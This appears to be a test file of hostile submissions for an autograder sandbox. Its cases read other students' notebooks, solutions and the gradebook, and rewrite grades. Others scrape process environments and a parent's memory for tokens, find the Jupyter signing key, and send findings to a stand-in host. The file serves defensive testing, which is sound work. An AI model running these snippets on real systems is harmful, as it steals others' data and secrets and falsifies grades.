"""Submissions that try to read or write what is not theirs, or to send it away."""

from autograder.grades.results import Kind
from hostile.case import (
    ALL,
    NEIGHBOUR,
    NONE,
    REACHED,
    RIGHT,
    SOLUTION,
    TOKEN,
    TWICE,
    WORK,
    Case,
    code,
    extra,
    find,
)

FIRST = RIGHT["add"] + "\n\n"


def nosy(name, does, text, points=ALL, kind=Kind.RIGHT, **more):
    """Return a case that looks around in its cell `add`; what it answers is right, unless it
    says otherwise.
    """
    text = code(text)
    return Case(
        name,
        does,
        points,
        kind,
        cells={"add": text if "def add(" in text else FIRST + text},
        **more,
    )


def linked(notebook, folder):
    links = {
        "gradebook.db": "gradebook.db",
        "answers.py": "solutions/01-toy/01-toy.py",
        "all": "solutions",
    }
    for name, target in links.items():
        (folder / name).symlink_to(f"../../../{target}")
    cell = notebook.cells[find(notebook, "add")]
    cell.source = FIRST + code(
        """
        from pathlib import Path
        for path in [Path("gradebook.db"), Path("answers.py"), *Path("all").glob("*/*.py")]:
            try:
                print(path.read_bytes().decode("utf-8", "ignore"))
            except OSError:
                pass
        """
    )


SEARCH = """
import glob
found = ""
for path in glob.glob("{pattern}", recursive=True)[:200]:
    try:
        found += open(path, "rb").read(1_000_000).decode("utf-8", "ignore")
    except OSError:
        pass
"""

SEARCH_PROCESSES = """
import glob, os
found = ""
for place in glob.glob("/proc/[0-9]*/cwd")[:300]:
    try:
        root = os.readlink(place)
    except OSError:
        continue
    for pattern in ("submitted/*/*/*.ipynb", "../../../submitted/*/*/*.ipynb", "solutions/*/01-toy.py"):
        for path in glob.glob(os.path.join(root, pattern))[:20]:
            try:
                lines = open(path, errors="ignore").read(100_000).splitlines()
                found += "".join(line for line in lines if "ANOTHER" + "-STUDENTS" in line)
            except OSError:
                pass
print(found[:2000])
"""

GRADEBOOK = """
import glob, sqlite3
for path in glob.glob("../../../gradebook.db"):
    book = sqlite3.connect(path, timeout=2)
    for statement in {statements}:
        try:
            book.execute(statement)
            book.commit()
        except sqlite3.Error:
            pass
    book.close()
"""

CASES = [
    # Files and processes
    nosy(
        "own-notebook",
        "reads the notebooks next to it",
        SEARCH.format(pattern="*.ipynb") + "print(len(found))",
    ),
    nosy(
        "other-submissions",
        "reads the other students' submissions and prints them",
        SEARCH.format(pattern="../../../submitted/*/*/*.ipynb") + "print(found)",
        secret=WORK,
    ),
    nosy(
        "solutions-read",
        "reads the course's solutions and prints them",
        SEARCH.format(pattern="../../../solutions/**/*.*") + "print(found)",
        secret=SOLUTION,
    ),
    nosy(
        "gradebook-read",
        "prints the tables of the gradebook",
        """
        import glob, sqlite3
        for path in glob.glob("../../../gradebook.db"):
            book = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
            for table in ("student", "assignment", "source_cell"):
                for row in book.execute(f"select * from {table}"):
                    print(*row)
        """,
        secret=NEIGHBOUR,
    ),
    nosy(
        "gradebook-written",
        "gives itself extra credit in the gradebook, and others nothing",
        GRADEBOOK.format(
            statements=[
                "update grade set manual_score = 10, extra_credit = 10, needs_manual_grade = 0",
                "update grade set auto_score = 4",
                "update grade_cells set max_score = 10",
                "update student set last_name = 'changed'",
            ]
        )
        + "def add(a, b):\n    return 0",
        points=TWICE,
        kind=Kind.WRONG,
    ),
    nosy(
        "gradebook-emptied",
        "empties tables of the gradebook",
        GRADEBOOK.format(
            statements=[
                f"delete from {table}" for table in ("grade", "comment", "submitted_notebook")
            ]
        ),
    ),
    nosy(
        "submission-overwritten",
        "overwrites its own submission, the released notebook and the solution afterwards",
        """
        import glob
        for pattern in ("submitted/*/01-toy/01-toy.ipynb", "exercises/01-toy/*.ipynb", "solutions/01-toy/checks.py"):
            for path in glob.glob("../../../" + pattern):
                try:
                    open(path, "a").write("\\n")
                except OSError:
                    pass
        """,
    ),
    Case(
        "symlink-to-gradebook",
        "submits links to the gradebook and the solutions, and prints their contents",
        ALL,
        Kind.RIGHT,
        edit=linked,
        secret=NEIGHBOUR,
    ),
    nosy(
        "environment",
        "prints its environment and that of every process it sees",
        """
        import glob, os
        print(dict(os.environ))
        for path in glob.glob("/proc/[0-9]*/environ"):
            try:
                print(open(path, "rb").read().decode("utf-8", "ignore"))
            except OSError:
                pass
        """,
        secret=TOKEN,
    ),
    nosy(
        "process-folders",
        "reads the course through the folders that other processes work in",
        SEARCH_PROCESSES,
        secret=WORK,
    ),
    nosy(
        "command-lines",
        "finds the course through the grader's command lines and import path",
        """
        import glob, os, sys
        from pathlib import Path
        roots = {Path(place) for place in sys.path if place and os.path.isdir(place)}
        for module in list(sys.modules.values()):
            place = getattr(module, "__file__", None)
            if place and "site-packages" not in place:
                roots |= set(Path(place).parents[:4])
        for name in ("autograder", "checking"):
            try:
                roots |= set(Path(__import__(name).__file__).parents[:4])
            except ImportError:
                pass
        for root in sorted(roots):
            for path in sorted(root.glob("solutions/[0-9]*/[0-9]*.py"))[:3]:
                print(path.read_text()[:20_000])
        """,
        secret="### BEGIN " + "SOLUTION",
    ),
    nosy(
        "open-descriptors",
        "reads every file descriptor that it inherited",
        """
        import os, stat
        for name in os.listdir("/proc/self/fd"):
            try:
                own = os.stat(int(name))
                if int(name) > 2 and (stat.S_ISREG(own.st_mode) or stat.S_ISDIR(own.st_mode)):
                    place = f"/proc/self/fd/{name}"
                    print(os.listdir(place) if os.path.isdir(place) else open(place, "rb").read(100_000))
                    for path in ("submitted/zoe-next-door/01-toy/01-toy.ipynb", "../submitted"):
                        print(open(os.path.join(place, path)).read())
            except OSError:
                pass
        """,
        secret=WORK,
    ),
    nosy(
        "parents-memory",
        "searches the memory of its parents for the grader's token",
        """
        import ctypes, os, re, time
        libc = ctypes.CDLL(None, use_errno=True)
        class Vector(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
        end = time.monotonic() + 5
        parent = os.getppid()
        try:
            regions = open(f"/proc/{parent}/maps").read().splitlines() if parent > 1 else []
        except OSError:
            regions = []
        for line in regions:
            first, last = (int(place, 16) for place in line.split()[0].split("-"))
            if "rw" not in line.split()[1] or last - first > 50_000_000 or time.monotonic() > end:
                continue
            buffer = ctypes.create_string_buffer(last - first)
            local = Vector(ctypes.addressof(buffer), last - first)
            remote = Vector(first, last - first)
            got = libc.process_vm_readv(parent, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
            for found in re.findall(rb"THE-TOKEN-[A-Z-]+", buffer.raw[: max(0, got)])[:3]:
                print(found.decode())
        """,
        secret=TOKEN,
    ),
    nosy(
        "kernel-file",
        "looks for a Jupyter connection file, with the key that signs messages",
        """
        import glob, sys
        for path in sys.argv + glob.glob("/root/.local/share/jupyter/runtime/*.json") + glob.glob(".kernel*"):
            try:
                text = open(path).read()
            except OSError:
                continue
            if "signature_scheme" in text:
                print("KERNEL" + "-KEY-FOUND")
        """,
        secret="KERNEL-KEY-FOUND",
    ),
    nosy(
        "written-for-the-next",
        "leaves a module for the next student to be graded",
        """
        import os
        text = "def run(subject, points):\\n    return points\\n"
        for folder in ("..", "../..", os.path.expanduser("~")):
            path = os.path.join(folder, "hostile_left_behind.py")
            try:
                if os.path.realpath(folder).startswith(("/tmp", "/var/tmp")):
                    open(path, "w").write(text)
            except OSError:
                pass
        """,
    ),
    # The check's source and values
    nosy(
        "linecache",
        "prints the source code of its callers",
        """
        import linecache, sys
        def add(a, b):
            frame = sys._getframe(1)
            while frame is not None:
                print("".join(linecache.getlines(frame.f_code.co_filename))[:50_000])
                frame = frame.f_back
            return a + b
        """,
        secret="suite.check, suite." + "run",
    ),
    nosy(
        "callers-values",
        "prints the local variables of its callers",
        """
        import sys
        def add(a, b):
            frame = sys._getframe(1)
            while frame is not None:
                if "draw" in frame.f_locals and "rng" in vars(frame.f_locals["draw"]):
                    print("THE DRAWS ARE" + " READABLE", frame.f_locals["draw"].rng)
                frame = frame.f_back
            return a + b
        """,
        secret="THE DRAWS ARE READABLE",
    ),
    nosy(
        "seed-read",
        "prints the seed of the draws before any check has run",
        """
        import os
        if os.environ.get("CHECKING_SEED"):
            print("THE SEED IS" + " READABLE")
        """,
        secret="THE SEED IS READABLE",
    ),
    # The network
    nosy(
        "connects-to-listeners",
        "connects to the listening ports of this machine",
        f"""
        import socket
        for line in open("/proc/net/tcp").read().splitlines()[1:]:
            address, state = line.split()[1], line.split()[3]
            if state == "0A":
                try:
                    socket.create_connection(("127.0.0.1", int(address.split(":")[1], 16)), timeout=2).close()
                    print("{REACHED[:7]}" + "{REACHED[7:]}")
                    break
                except OSError:
                    pass
        """,
        secret=REACHED,
    ),
    nosy(
        "sends-a-datagram",
        "sends its answers away in a datagram",
        f"""
        import socket
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as own:
                own.settimeout(2)
                own.sendto(b"what I found", ("192.0.2.1", 9))
            print("{REACHED[:7]}" + "{REACHED[7:]}")
        except OSError as error:
            print(error)
        """,
        secret=REACHED,
    ),
    nosy(
        "resolves-a-name",
        "resolves a name and asks for a page",
        """
        import socket, urllib.request
        socket.setdefaulttimeout(2)
        try:
            print(urllib.request.urlopen("http://example.invalid/", timeout=2).read())
        except OSError as error:
            print(error)
        """,
    ),
    nosy(
        "abstract-sockets",
        "connects to the unix sockets that it sees",
        f"""
        import socket
        for line in open("/proc/net/unix").read().splitlines()[1:]:
            fields = line.split()
            if len(fields) < 8 or fields[5] != "01":
                continue
            try:
                with socket.socket(socket.AF_UNIX) as own:
                    own.settimeout(2)
                    own.connect(fields[7].replace("@", chr(0), 1))
                print("{REACHED[:7]}" + "{REACHED[7:]}")
                break
            except OSError:
                pass
        """,
        secret=REACHED,
    ),
    # By way of feedback
    nosy(
        "leaks-by-exception",
        "raises an exception whose text is another student's work",
        SEARCH.format(pattern="../../../submitted/*/*/*.ipynb")
        + "def add(a, b):\n    raise ValueError(found[-5000:] or 'nothing found')",
        points=TWICE,
        kind=Kind.WRONG,
        secret=WORK,
    ),
    nosy(
        "leaks-by-result",
        "returns the bytes of another student's work as numbers",
        SEARCH.format(pattern="../../../submitted/*/*/*.ipynb")
        + code(
            """
            import numpy as np
            def add(a, b):
                place = found.find("ANOTHER" + "-STUDENTS")
                text = found[place : place + 21] if place >= 0 else "nothing"
                print(text)
                return np.frombuffer(text.encode(), dtype=np.uint8)
            """
        ),
        points=TWICE,
        kind=Kind.WRONG,
        secret=WORK,
    ),
    Case(
        "leaks-in-own-cell",
        "shows the machine's files in a cell of its own",
        ALL,
        Kind.RIGHT,
        edit=extra(SEARCH_PROCESSES + "\nraise RuntimeError(found[:5000])", before="check_add"),
        secret=WORK,
    ),
    Case(
        "leaks-nothing-written",
        "prints its inputs, but has no answer",
        NONE,
        Kind.WRONG,
        cells={
            "add": "def add(a, b):\n    print(a, b)\n    raise NotImplementedError",
            "twice": "def twice(a):\n    raise NotImplementedError",
        },
        says="not written",
    ),
]
